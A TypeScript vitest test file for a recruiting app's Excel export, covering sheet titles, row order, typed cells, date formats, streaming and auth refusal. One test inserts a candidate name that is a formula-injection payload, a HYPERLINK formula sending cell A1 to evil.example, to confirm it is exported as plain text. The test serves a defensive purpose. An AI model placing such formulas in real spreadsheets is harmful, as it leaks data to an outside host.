import ExcelJS from 'exceljs';
import { expect, it } from 'vitest';
import { toApiDate } from '../../src/common/dates';
import { CALLS, CANDIDATES, exportScene, fetchExport, listOf, type Lang } from './export-scene';
import { insertCandidates } from './fixtures';
import { describeEachDatabase, type TestApi } from './harness';
import { describeCall, unpaged, type ListCall } from './lists/calls';
import { sheetOf, textRows } from './xlsx';

/**
 * Issue 31 item 2: every list call answers `format=xlsx` with an Excel workbook of the records its unpaged
 * JSON list gives, in the same order, as the list screen shows them, in typed cells: texts as text (no
 * formula guard), numbers as numbers, days as dates in the language's format. Read back with exceljs's
 * reader, as a spreadsheet program reads it.
 */

const DAY_FORMAT = { en: 'yyyy-mm-dd', de: 'dd.mm.yyyy' };
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** The sheet's name: the list's title. */
const TITLE = {
  en: { users: 'Users', customers: 'Customers', vacancies: 'Vacancies', candidates: 'Candidates' },
  de: { users: 'Benutzer', customers: 'Kunden', vacancies: 'Stellen', candidates: 'Kandidaten' },
};

interface XlsxAnswer {
  status: number;
  headers: Headers;
  bytes: ArrayBuffer;
}

async function exportOf(api: TestApi, token: string, call: ListCall, lang: Lang): Promise<XlsxAnswer> {
  const response = await fetchExport(api, token, call, lang, 'xlsx');
  return { status: response.status, headers: response.headers, bytes: await response.arrayBuffer() };
}

/** The export, checked to be the list's JSON rows as its screen shows them; its sheet. */
async function exportsAsListed(api: TestApi, token: string, call: ListCall, lang: Lang) {
  const { resource, language, screen } = listOf(call, lang);
  const file = await exportOf(api, token, call, lang);
  expect(file.status).toBe(200);
  expect(file.headers.get('content-type')).toBe(XLSX_TYPE);
  expect(file.headers.get('content-disposition')).toBe(
    `attachment; filename="${resource}-${toApiDate(new Date())}.xlsx"`,
  );
  const sheet = await sheetOf(file.bytes);
  expect(sheet.name).toBe(TITLE[lang][resource]);
  const [header, ...data] = textRows(sheet, language);
  expect(header).toEqual(screen.header);
  expect(sheet.getRow(1).font?.bold).toBe(true);
  const listed = await unpaged(api, token, call);
  expect(listed.status).toBe(200);
  const items = listed.body.response as never[];
  expect(sheet.rowCount).toBe(items.length + 1);
  expect(data).toEqual(items.map((item) => screen.row(item)));
  return sheet;
}

describeEachDatabase('a list exported as an Excel workbook', (api) => {
  const { admin, records, leaveMidway, readStreamed } = exportScene(api, 'xlsx');

  it.each(
    CALLS.flatMap((call) => (['en', 'de'] as const).map((lang) => [describeCall(call), lang, call] as const)),
  )(
    "%s [%s]: the workbook holds the list's records in its order, as its screen shows them",
    async (_title, lang, call) => {
      const sheet = await exportsAsListed(api(), admin(), call, lang);
      expect(sheet.rowCount).toBeGreaterThan(1);
    },
  );

  it('types its cells: texts as they are (no formula guard), days as dates in the language’s format', async () => {
    const vacancy = records().vacancies[0] ?? expect.fail('no vacancy');
    const name = '=HYPERLINK("https://evil.example/?"&A1,"CV") Xlsxdoe';
    await insertCandidates(api(), vacancy.id, [
      {
        candidate_name: name,
        candidate_email: '@SUM(1+1)@evil.example',
        candidate_phone_number: '+44 7993 506384',
        created_at: '2024-03-07T12:00:00.000Z',
      },
    ]);
    const call: ListCall = { name: 'candidateList', params: { status: 'all' }, query: { search: 'xlsxdoe' } };
    for (const lang of ['en', 'de'] as const) {
      const sheet = await exportsAsListed(api(), admin(), call, lang);
      expect(sheet.rowCount).toBe(2);
      const row = sheet.getRow(2);
      for (const [column, text] of [
        [1, name],
        [2, '@SUM(1+1)@evil.example'],
        [3, '+44 7993 506384'],
      ] as const) {
        expect(row.getCell(column).type).toBe(ExcelJS.ValueType.String);
        expect(row.getCell(column).value).toBe(text);
      }
      const applied = row.getCell(8);
      expect(applied.type).toBe(ExcelJS.ValueType.Date);
      expect(applied.value).toEqual(new Date('2024-03-07T00:00:00.000Z'));
      expect(applied.numFmt).toBe(DAY_FORMAT[lang]);
    }
  });

  it('writes numbers as numbers, and a vacancy’s days as dates', async () => {
    const vacancy = records().vacancies[0] ?? expect.fail('no vacancy');
    const call: ListCall = { name: 'vacancyList', params: { type: 'all' }, query: { ordering: 'id' } };
    const sheet = await exportsAsListed(api(), admin(), call, 'de');
    let row: ExcelJS.Row | undefined;
    sheet.eachRow((candidate) => {
      if (candidate.getCell(1).value === vacancy.id) row = candidate;
    });
    if (!row) return expect.fail(`vacancy ${vacancy.id} is not in the workbook`);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(6).value).toBe(vacancy.vacancy_quota);
    expect(row.getCell(6).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(4).value).toEqual(new Date(`${vacancy.vacancy_start_date}T00:00:00.000Z`));
    expect(row.getCell(4).numFmt).toBe('dd.mm.yyyy');
  });

  it('serves on when clients leave midway: more left workbooks than download slots, then a whole one', async () => {
    // Refused (503) only until the server has seen the last ones leave: a slot held per left export, or a
    // writer that fails on its closed answer, would refuse or break every one after.
    await leaveMidway(12);
    const sheet = await exportsAsListed(api(), admin(), { name: 'companyManagementList' }, 'en');
    expect(sheet.rowCount).toBeGreaterThan(records().companies.length);
  });

  it('streams a large export: the first bytes arrive before the client has read the rest', async () => {
    const bytes = await readStreamed();
    const sheet = await sheetOf(new Uint8Array(bytes).buffer);
    expect(sheet.rowCount - 1).toBeGreaterThanOrEqual(CANDIDATES);
  });

  it('refuses a caller without a token as the list does, in JSON', async () => {
    const anonymous = await exportOf(api(), '', { name: 'userList' }, 'en');
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers.get('content-type')).toMatch(/^application\/json/);
  });
});
